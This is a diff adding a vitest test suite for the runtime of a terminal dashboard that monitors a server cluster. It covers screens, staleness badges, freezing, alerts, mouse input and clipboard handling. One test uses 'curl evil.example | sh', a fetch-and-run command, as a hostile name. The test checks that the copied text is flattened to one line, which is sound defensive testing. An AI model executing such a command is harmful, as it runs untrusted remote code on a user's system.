@@ -1,0 +1,478 @@
+import { beforeEach, describe, expect, test } from 'vitest';
+import { type ScreenName, screenNames, screenTable } from '../../../src/actions/screen-table.ts';
+import { freshnessOf } from '../../../src/cluster/freshness.ts';
+import { resources } from '../../../src/cluster/resources.ts';
+import { endpoints } from '../../../src/protocol/endpoints.ts';
+import type { Problem } from '../../../src/triage/problem.ts';
+import { watchAlerts } from '../../../src/ui/program/alerts.ts';
+import { bodyArea, type Size } from '../../../src/ui/program/layout.ts';
+import { createMouse, parseMouse } from '../../../src/ui/program/mouse.ts';
+import { Runtime } from '../../../src/ui/program/runtime.ts';
+import { createUiStore } from '../../../src/ui/store.ts';
+import { calm, type FakeServices, fakeServices } from '../../support/fake-services.ts';
+import { sampleProblem } from '../../support/sample-problem.ts';
+import { sampleNow, sampleState } from '../../support/sample-state.ts';
+import { rowsOf } from '../../support/screen-rows.ts';
+import { screenTops } from '../../support/screen-tops.ts';
+
+const SIZE: Size = { columns: 120, rows: 40 };
+let services: FakeServices;
+let runtime: Runtime;
+let quits: number;
+
+function open(size: Size = SIZE, screen: ScreenName = 'overview'): void {
+  services = fakeServices(sampleState());
+  quits = 0;
+  runtime = new Runtime(
+    services,
+    createUiStore(screen, { units: 'bits', times: 'relative', ascii: false, lowBandwidth: false }),
+    size,
+    () => quits++,
+  );
+}
+
+const text = () =>
+  runtime
+    .panes()
+    .flatMap((pane) => pane.lines)
+    .map((line) => line.map((span) => span.text).join(''))
+    .join('\n');
+const press = (...names: string[]) => {
+  for (const name of names) {
+    runtime.press(
+      name.length === 1 ? { name: name === ' ' ? 'space' : name, text: name } : { name, text: '' },
+    );
+  }
+};
+const problem = (over: Partial<Problem> = {}): Problem => sampleProblem({ trend: 'rising', ...over });
+
+beforeEach(() => open());
+
+test('every screen is one key away, and draws itself at every size', () => {
+  for (const size of [
+    { columns: 40, rows: 12 },
+    { columns: 80, rows: 24 },
+    { columns: 300, rows: 100 },
+  ]) {
+    open(size);
+    for (const name of screenNames) {
+      press(screenTable[name].key);
+      expect(runtime.ui.getState().screen).toBe(name);
+      const own = runtime.panes().filter(({ id }) => !id.startsWith('chrome.'));
+      const rows = rowsOf(own, bodyArea(size));
+      expect(rows[0]).toMatch(screenTops[name]);
+      expect(rows.slice(1).join(''), name).toMatch(/\w/);
+    }
+  }
+});
+
+test('the dialog of freshness names every resource and what it is read from', () => {
+  open({ columns: 120, rows: 40 });
+  press('!');
+  for (const { title, endpoint } of resources) {
+    expect(text()).toMatch(new RegExp(`${title} .*${endpoints[endpoint].path.replace(/[{}]/g, '.')}`));
+  }
+});
+
+test('a narrow header keeps what kind of session it is, and the clock', () => {
+  const top = () => text().split('\n')[0] ?? '';
+  open({ columns: 40, rows: 12 });
+  runtime = new Runtime(
+    { ...services, facts: { ...services.facts, demo: true } },
+    runtime.ui,
+    { columns: 40, rows: 12 },
+    () => {},
+  );
+  press(' ');
+  expect(top()).toMatch(/ DEMO .* FROZEN 0s .*\d\d:\d\d:\d\d/);
+  expect(top().length).toBe(40);
+});
+
+test('Esc leads back through the screens one came from', () => {
+  press('2', '3', 'esc', 'esc');
+  expect(runtime.ui.getState().screen).toBe('overview');
+});
+
+describe('a frozen screen', () => {
+  test('stands still and says for how long, while data goes on being collected', async () => {
+    press(' ');
+    await services.clock.advance(42_000);
+    services.show(sampleState({ name: 'another name' }));
+    runtime.resize(SIZE);
+    expect(text()).toContain('FROZEN 42s');
+    expect(text()).not.toContain('another name');
+    press(' ');
+    expect(text()).toContain('another name');
+    expect(text()).not.toContain('FROZEN');
+  });
+});
+
+describe('what is stale', () => {
+  test('says so with its age, and nothing else does', async () => {
+    const state = sampleState();
+    const old = { ...state.topology, updatedAt: sampleNow - 300_000 };
+    services.show({ ...state, topology: old });
+    runtime.resize(SIZE);
+    expect(freshnessOf(old, sampleNow)).toBe('stale');
+    expect(text()).toContain('topology STALE 5m');
+    expect(text()).not.toContain('dashboard STALE');
+  });
+
+  test('is summed up where badges leave no room, so that the clock stays', () => {
+    const old = sampleNow - 300_000;
+    const state = sampleState();
+    services.show({
+      ...state,
+      dashboard: { ...state.dashboard, updatedAt: old },
+      topology: { ...state.topology, updatedAt: old },
+      journalResource: { ...state.journalResource, updatedAt: old },
+      streamSweep: { ...state.streamSweep, updatedAt: old },
+    });
+    press(' ');
+    runtime.resize({ columns: 80, rows: 24 });
+    const header = text().split('\n')[0] ?? '';
+    expect(header).toContain('FROZEN');
+    expect(header).toMatch(/\d STALE 5m 00s +\d\d:\d\d:\d\d $/);
+  });
+
+  test('an error is told in its own words where nothing worse is known', () => {
+    const state = sampleState();
+    const error = { code: 'REFUSED', message: 'The server refuses connections.', since: sampleNow };
+    services.show({ ...state, dashboard: { ...state.dashboard, error } });
+    runtime.resize(SIZE);
+    expect(text()).toContain('The server refuses connections.');
+  });
+});
+
+test('the worst problem is on every screen, with its count in the header', () => {
+  services.show(sampleState(), {
+    ...calm,
+    problems: [problem(), problem({ key: 'b', severity: 'warning' })],
+  });
+  for (const key of '1234567890') {
+    press(key);
+    expect(text()).toContain('CRITICAL');
+    expect(text()).toContain('edge-1a: CPU 97%');
+    expect(text()).toContain('✖ 1 critical');
+    expect(text()).toContain('+1 more');
+  }
+});
+
+test('what somebody acknowledged no longer leads', () => {
+  const known = problem({ acknowledged: { at: sampleNow, note: 'on it' } });
+  services.show(sampleState(), { ...calm, problems: [known] });
+  runtime.resize(SIZE);
+  expect(text()).not.toContain('CRITICAL');
+});
+
+describe('help and palette', () => {
+  test('help knows every key of the table, and searching narrows it', () => {
+    open({ columns: 120, rows: 200 });
+    press('?');
+    const shown = text();
+    for (const command of services.keymap.all) {
+      if (command.keys[0] !== undefined) expect(shown).toContain(command.title);
+    }
+    for (const letter of 'freeze') press(letter);
+    expect(text()).toContain('Freeze the screen');
+    expect(text()).not.toContain('Journal\n');
+    press('esc');
+    expect(runtime.ui.getState().dialogs).toEqual([]);
+  });
+
+  test(':server NAME goes to the servers with that name', () => {
+    press(':');
+    for (const letter of 'server') press(letter);
+    press(' ');
+    for (const letter of 'edge-1a') press(letter);
+    press('enter');
+    expect(runtime.ui.getState().screen).toBe('servers');
+    expect(text()).toContain('edge-1a');
+  });
+
+  test('keys typed into a dialog are text, not commands', () => {
+    press(':', 'q');
+    expect(quits).toBe(0);
+    press('esc', 'q');
+    expect(quits).toBe(1);
+  });
+});
+
+test('below the smallest window it says so and can still be left', () => {
+  open({ columns: 30, rows: 8 });
+  expect(text().replaceAll('\n', '')).toContain('too small, needs 40×12');
+  press('q');
+  expect(quits).toBe(1);
+});
+
+test('what is copied is one line, however many a hostile name has', () => {
+  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
+  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
+});
+
+test('units change everywhere and at once', () => {
+  expect(text()).toContain('bit/s');
+  press('b');
+  expect(text()).not.toContain('bit/s');
+  expect(text()).toContain('B/s');
+});
+
+test('polling is asked for less often, and it says so', () => {
+  press('-');
+  expect(services.monitor.pace).toBe(2);
+  expect(text()).toContain('× 2');
+});
+
+test('the note of a small window is one line, however small it is', () => {
+  for (const columns of [39, 24, 12, 3]) {
+    open({ columns, rows: 8 });
+    expect(
+      text()
+        .trimEnd()
+        .split('\n')
+        .filter((line) => line.trim() !== ''),
+    ).toHaveLength(1);
+    expect(text()).toContain(columns < 5 ? '40×' : '40×12');
+  }
+});
+
+test('after :reset the theme is the one of the start at once', () => {
+  const set: (string | undefined)[] = [];
+  const own = fakeServices(sampleState(), {
+    setTheme: (theme) => {
+      set.push(theme);
+      return { theme, message: '' };
+    },
+  });
+  const { startDisplay } = runtime;
+  const other = new Runtime(own, createUiStore('overview', startDisplay), SIZE, () => {});
+  other.run('app.theme', 'paper');
+  other.run('app.reset');
+  expect(set).toEqual(['paper', own.startTheme]);
+  expect(other.ui.getState().theme).toBeUndefined();
+});
+
+test('the mouse opens tabs, selects rows and opens the selected one', () => {
+  const mouse = createMouse(runtime);
+  const click = (x: number, y: number) => mouse({ kind: 'press', x, y });
+  expect(parseMouse('\x1b[<0;5;6M')).toEqual({ kind: 'press', x: 4, y: 5 });
+  expect(parseMouse('\x1b[<64;5;6M')).toEqual({ kind: 'wheel', up: true, x: 4, y: 5 });
+  expect(parseMouse('\x1b[<0;5;6m')).toBeUndefined();
+  expect(parseMouse('j')).toBeUndefined();
+  const tabs = runtime.panes().find((pane) => pane.id === 'chrome.tabs');
+  const line = tabs?.lines[0]?.map((span) => span.text).join('') ?? '';
+  click(line.indexOf('Servers') + 2, 1);
+  expect(runtime.ui.getState().screen).toBe('servers');
+});
+
+describe('with the mouse', () => {
+  const rowOf = (words: string) => {
+    const lines = runtime.panes().flatMap(({ rect, lines }) =>
+      lines.map((line, row) => ({
+        y: rect.y + row,
+        text: line.map((span) => span.text).join(''),
+        x: rect.x,
+      })),
+    );
+    const found = lines.find((line) => line.text.includes(words));
+    return { x: (found?.x ?? 0) + (found?.text.indexOf(words) ?? 0) + 1, y: found?.y ?? 0 };
+  };
+  const press = (mouse: ReturnType<typeof createMouse>, words: string) =>
+    mouse({ kind: 'press', ...rowOf(words) });
+
+  test('a quick double click on a row that was not selected opens it, though the list moved meanwhile', async () => {
+    const mouse = createMouse(runtime);
+    const place = rowOf('edge-3b');
+    mouse({ kind: 'press', ...place });
+    expect(runtime.ui.getState().screen).toBe('overview');
+    const { servers } = sampleState();
+    services.show(sampleState({ servers: servers.toReversed() }));
+    await services.clock.advance(200);
+    mouse({ kind: 'press', ...place });
+    expect(runtime.ui.getState().slices.servers).toMatchObject({ opened: 'edge-3b' });
+  });
+
+  test('slow clicks on different rows only select', async () => {
+    open(SIZE, 'servers');
+    const mouse = createMouse(runtime);
+    press(mouse, 'edge-2a');
+    await services.clock.advance(1000);
+    press(mouse, 'edge-1a');
+    expect(runtime.ui.getState().slices.servers).toMatchObject({
+      opened: undefined,
+      position: { selectedId: 'server edge-1a' },
+    });
+  });
+
+  test('a click on a header sorts, another one turns the order round; a click in the footer is its key', () => {
+    open(SIZE, 'servers');
+    const mouse = createMouse(runtime);
+    press(mouse, ' Mem');
+    expect(runtime.ui.getState().slices.servers).toMatchObject({ sort: { key: 'mem', descending: true } });
+    press(mouse, ' Mem');
+    expect(runtime.ui.getState().slices.servers).toMatchObject({ sort: { key: 'mem', descending: false } });
+    press(mouse, 'sort');
+    expect(runtime.ui.getState().dialogs.at(-1)?.kind).toBe('menu');
+  });
+
+  test('a click into the list without the focus gives it the focus', () => {
+    open({ columns: 160, rows: 40 }, 'journal');
+    const { x, y } = rowOf('Per object');
+    createMouse(runtime)({ kind: 'press', x, y: y + 2 });
+    expect(runtime.ui.getState().slices.journal).toMatchObject({ focus: 'rates' });
+  });
+
+  test('the wheel moves the list below the pointer, whichever had the focus; where nothing moves, nothing does', () => {
+    const wheel = (id: string, up = false) => {
+      const { rect } = runtime.panes().find((pane) => pane.id === id) ?? {};
+      createMouse(runtime)({ kind: 'wheel', up, x: (rect?.x ?? 0) + 3, y: (rect?.y ?? 0) + 2 });
+    };
+    open({ columns: 160, rows: 40 }, 'journal');
+    const slice = () => runtime.ui.getState().slices.journal;
+    wheel('journal.rates');
+    expect(slice()).toMatchObject({ focus: 'rates', ratesPosition: { index: 3 } });
+    wheel('journal.log', true);
+    expect(slice()).toMatchObject({ focus: 'log', ratesPosition: { index: 3 } });
+    wheel('journal.rates', true);
+    expect(slice()).toMatchObject({ focus: 'rates', ratesPosition: { index: 0 } });
+
+    open({ columns: 120, rows: 40 }, 'overview');
+    wheel('overview.traffic');
+    expect(runtime.ui.getState()).toMatchObject({ way: undefined, screen: 'overview' });
+    expect(runtime.ui.getState().slices.overview ?? {}).not.toMatchObject({ servers: { index: 3 } });
+  });
+});
+
+test('the footer keeps its keys under a notice, and names only what does something', () => {
+  open(SIZE, 'servers');
+  const foot = () =>
+    text()
+      .split('\n')
+      .findLast((line) => line.includes('quit')) ?? '';
+  expect(foot()).toMatch(/\/ filter .*s sort .*\? help .*q quit/);
+  runtime.notice('Copied the name edge-1a.', 'ok');
+  runtime.draw();
+  expect(foot()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
+  runtime.goTo('servers', { opened: 'edge-1a' });
+  runtime.draw();
+  expect(foot()).not.toMatch(/filter|sort|view/);
+  press('0');
+  expect(foot()).not.toMatch(/open|acknowledge/);
+});
+
+test('a new critical problem is told once, however long it stands and flickers', () => {
+  const told: string[] = [];
+  let listener = () => {};
+  let problems: readonly Problem[] = [];
+  const triage = {
+    getState: () => ({ ...calm, problems }),
+    subscribe: (next: () => void) => {
+      listener = next;
+      return () => {};
+    },
+  };
+  watchAlerts(triage, ({ key }) => told.push(key));
+  const show = (...next: Problem[]) => {
+    problems = next;
+    listener();
+  };
+  show(problem({ severity: 'warning' }));
+  show(problem());
+  show(problem({ severity: 'warning' }));
+  show(problem());
+  show(problem(), problem({ key: 'known', acknowledged: { at: 1, note: '' } }));
+  expect(told).toEqual(['server-hot:edge-1a']);
+  show();
+  show(problem());
+  expect(told).toHaveLength(2);
+});
+
+describe('the time of the program', () => {
+  const draws = () => {
+    const seen = { times: 0 };
+    runtime.subscribe(() => seen.times++);
+    return seen;
+  };
+
+  test('a notice goes away after five seconds', async () => {
+    runtime.start();
+    runtime.notice('Copied the name.', 'ok');
+    await services.clock.advance(4_000);
+    expect(text()).toContain('Copied the name.');
+    await services.clock.advance(2_000);
+    expect(text()).not.toContain('Copied the name.');
+    runtime.stop();
+  });
+
+  test('what comes within 60 ms is drawn together', async () => {
+    runtime.start();
+    await services.clock.advance(500);
+    const seen = draws();
+    for (const name of ['one', 'two', 'three']) {
+      services.show(sampleState({ name }));
+      await services.clock.advance(10);
+    }
+    expect(seen.times).toBe(0);
+    await services.clock.advance(30);
+    expect(seen.times).toBe(1);
+    expect(text()).toContain('three');
+    runtime.stop();
+  });
+
+  test('the clock goes on each second, on the second', async () => {
+    runtime.start();
+    const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(text())?.[0].slice(-2);
+    await services.clock.advance(999);
+    expect(clockOf()).toBe('00');
+    await services.clock.advance(1);
+    expect(clockOf()).toBe('01');
+    await services.clock.advance(5_000);
+    expect(clockOf()).toBe('06');
+    runtime.stop();
+  });
+
+  test('after its end nothing is drawn and nothing waits', async () => {
+    runtime.start();
+    services.show(sampleState({ name: 'late' }));
+    runtime.stop();
+    const seen = draws();
+    services.show(sampleState({ name: 'later' }));
+    await services.clock.advance(5_000);
+    expect([seen.times, services.clock.waiting]).toEqual([0, 0]);
+  });
+});
+
+test('who looks at keys sees each of them, until it looks no more', () => {
+  const seen: string[] = [];
+  const off = runtime.onPress(({ name }) => seen.push(name));
+  press('2', 'j');
+  off();
+  press('3');
+  expect(seen).toEqual(['2', 'j']);
+});
+
+test('several lines are copied as lines, and it says what was copied', () => {
+  runtime.copy(['one\ntwo', 'three'], 'two names');
+  expect(services.copied).toEqual(['one two\nthree']);
+  runtime.draw();
+  expect(text()).toContain('Copied two names.');
+});
+
+test('what is pasted goes into the field that is open', () => {
+  press('2', '/');
+  runtime.paste('edge-1');
+  press('enter');
+  expect(runtime.ui.getState().slices.servers).toMatchObject({ filter: 'edge-1' });
+});
+
+test('another cluster begins without what was opened, held and gone through in the old one', () => {
+  press('2', 'enter', ' ', '?');
+  runtime.forget();
+  expect(runtime.ui.getState()).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
+});
+
+test('a name behind the command of a screen opens what has that name', () => {
+  runtime.run('screen.servers', 'edge-1a');
+  runtime.draw();
+  expect(text()).toContain('┌─ Server edge-1a');
+});
